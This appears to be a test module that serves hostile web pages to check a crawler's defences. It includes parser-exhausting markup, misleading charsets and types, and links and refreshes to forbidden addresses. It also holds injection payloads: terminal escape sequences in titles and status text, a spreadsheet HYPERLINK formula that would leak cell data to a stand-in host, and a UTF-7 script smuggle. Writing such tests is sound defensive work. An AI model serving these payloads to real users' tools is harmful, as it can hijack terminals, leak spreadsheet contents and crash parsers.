"""Markup that hurts parsers, words that hurt terminals and spreadsheets, and types that are not true."""

from __future__ import annotations

from ..table import Seen, endpoint
from ..wire import Ask

READ = ("ok", "parse_guard", "call_timeout", "call_memory", "quarantined")


@endpoint(*READ)
async def deep_nesting(ask: Ask) -> None:
    """Elements in elements in elements."""
    await ask.page("<title>deep</title>" + "<div>" * ask.world.size(40_000, 1_000_000))


@endpoint(*READ)
async def many_options(ask: Ask) -> None:
    """A select with tens of thousands of options."""
    await ask.page("<title>options</title><select>" + "<option>x" * ask.world.size(10_000, 50_000))


@endpoint(*READ)
async def misnested(ask: Ask) -> None:
    """Formatting that is closed in the wrong order, thousands of times."""
    await ask.page("<title>misnested</title>" + "".join(f"<b id={n}><i id={n}><p></b>" for n in range(4_000)))


@endpoint(*READ)
async def many_attributes(ask: Ask) -> None:
    """One tag with tens of thousands of attributes."""
    await ask.page(
        "<title>a</title><a "
        + " ".join(f"a{n}=1" for n in range(ask.world.size(20_000, 100_000)))
        + " href=/x>x</a>"
    )


@endpoint(*READ, most=8)
async def many_links(ask: Ask) -> None:
    """A hundred thousand links, none of which leads anywhere."""
    count = ask.world.size(10_000, 400_000)
    await ask.page("<title>links</title>" + "".join(f'<a href="ftp://x/{n}">' for n in range(count)))


@endpoint(*READ)
async def entities(ask: Ask) -> None:
    """Nothing but entities, with and without a meaning."""
    await ask.page(
        "<title>" + "&amp;&lt;&nosuch;&#x110000;&#0;" * ask.world.size(20_000, 200_000) + "</title>"
    )


@endpoint(*READ)
async def unclosed(ask: Ask) -> None:
    """A comment, a script and a value that never end."""
    await ask.page("<title>un</title><!--" + "<script>" * 20_000 + "<p title='" + "x" * 200_000)


@endpoint(*READ)
async def only_open(ask: Ask) -> None:
    """Nothing but the beginnings of tags."""
    await ask.page("<" * ask.world.size(900_000, 10_000_000))


@endpoint("ok")
async def nul_bytes(ask: Ask) -> None:
    """NULs between the letters, and bytes of no encoding."""
    await ask.page(b"<ti\x00tle>\x00\xff\xfe</title>" * 2_000)


@endpoint("ok")
async def charset_unknown(ask: Ask) -> None:
    """A charset that nobody knows, then one that is dangerous."""
    await ask.page(
        b"<meta charset=utf-7><title>+ADw-script+AD4-</title>",
        ("Content-Type", "text/html; charset=x-evil\t;charset=" + "a" * 3_000),
    )


@endpoint("ok")
async def charset_lies(ask: Ask) -> None:
    """One charset in the header, another in the page, a third in the bytes."""
    body = b"\xef\xbb\xbf<meta charset=utf-16><title>\xff\xc3\xa9</title>"
    await ask.page(body, ("Content-Type", "text/html; charset=iso-2022-kr"))


@endpoint("ok")
async def base_leads_away(ask: Ask) -> None:
    """A base that makes every relative link one to a forbidden address."""
    await ask.page(f'<base href="{ask.world.forbidden("/x/")}"><a href="y">y</a>')


@endpoint("ok")
async def base_is_script(ask: Ask) -> None:
    """Bases that are no addresses."""
    await ask.page(
        '<base href="javascript:alert(1)//"><base href="data:,x"><a href="y">y</a><a href="//">z</a>'
    )


@endpoint("ok", most=10)
async def refresh(ask: Ask) -> None:
    """Pages that want to be left for a forbidden address, and for themselves."""
    await ask.page(
        f'<meta http-equiv=refresh content="0;url={ask.world.forbidden()}">'
        '<meta http-equiv=refresh content="0"><meta http-equiv=refresh content="-1;URL=\'/attack">'
    )


@endpoint("ok", most=8)
async def frames(ask: Ask) -> None:
    """Frames, images and areas that lead to a forbidden address."""
    url = ask.world.forbidden("/i")
    await ask.page(
        f'<iframe src="{url}"></iframe><img src="{url}" srcset="{url} 2x"><map><area href="{url}"></map>'
        f'<link rel=canonical href="{url}"><link rel=next href="{url}"><form action="{url}">'
    )


@endpoint("ok")
async def title_escapes(ask: Ask) -> None:
    """A title that would colour the terminal and ring its bell."""
    await ask.page("<title>\x1b]0;owned\x07\x1b[2J\x1b[31mred\u202eder\x9b5m\r\nsecond line</title>")


@endpoint("ok")
async def title_formula(ask: Ask) -> None:
    """A title that a spreadsheet would run."""
    await ask.page('<title>=HYPERLINK("http://x/"&amp;A1,"y")</title>')


@endpoint("ok")
async def title_huge(ask: Ask) -> None:
    """A title of half a million letters."""
    await ask.page("<title>" + "wide " * 100_000 + "</title>")


@endpoint("ok")
async def type_image(ask: Ask) -> None:
    """HTML that says it is an image."""
    await ask.page('<a href="/hidden">x</a>', ("Content-Type", "image/png"))


@endpoint("ok")
async def type_binary(ask: Ask) -> None:
    """An image that says it is HTML."""
    await ask.page(b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 1_000)


@endpoint("ok")
async def type_none(ask: Ask) -> None:
    """No type at all."""
    ask.head("200 OK", ("Content-Length", "20"))
    await ask.send("<title>bare</title>\n")
    ask.over()


@endpoint("ok")
async def type_garbage(ask: Ask) -> None:
    """A type that is none."""
    await ask.page("<title>odd</title>", ("Content-Type", 'text/html;;;="\\";charset="' + "x" * 200))


def _escaped(seen: Seen) -> None:
    assert "\x1b" not in seen.crawled.errors.replace("\x1b[", "")


@endpoint("status 418", check=_escaped)
async def reason_escapes(ask: Ask) -> None:
    """A reason phrase that would colour the terminal."""
    await ask.page("", status="418 \x1b]0;owned\x07")
